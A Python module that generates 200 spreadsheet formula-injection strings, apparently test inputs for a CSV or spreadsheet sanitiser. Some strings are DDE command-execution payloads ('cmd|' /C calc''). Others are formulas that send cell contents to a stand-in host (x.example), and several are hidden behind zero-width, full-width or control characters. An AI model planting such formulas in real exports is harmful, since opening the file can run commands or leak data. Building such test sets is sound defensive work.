"""Two hundred things that somebody could type so that a spreadsheet runs them."""

_CORES = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://x.example/?"&A1,"see")', "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://x.example","//a")', "=WEBSERVICE(\"http://x.example\")", "=DDE(\"a\",\"b\",\"c\")",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1",
    "|calc", "%0A=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=A1&A2", "={1;2}", "=0x10", "=TRUE()",
)  # fmt: skip
_BEFORE = (
    *("", " ", "\t", "\n", "\r", "\r\n", '"', "'", "x;", "x,", "x\t", "x\n", '","', '";"'),
    *("\u200b", "\ufeff", "\x00", "\xa0"),
)
_AFTER = ("", ";y", '"', "\n")
PAYLOADS = tuple(
    dict.fromkeys(
        f"{before}{core}{_AFTER[(place + number) % len(_AFTER)]}"
        for number, before in enumerate(_BEFORE)
        for place, core in enumerate(_CORES)
    )
)[::2][:200]
"""Every second one, so that each start and each formula is among them."""
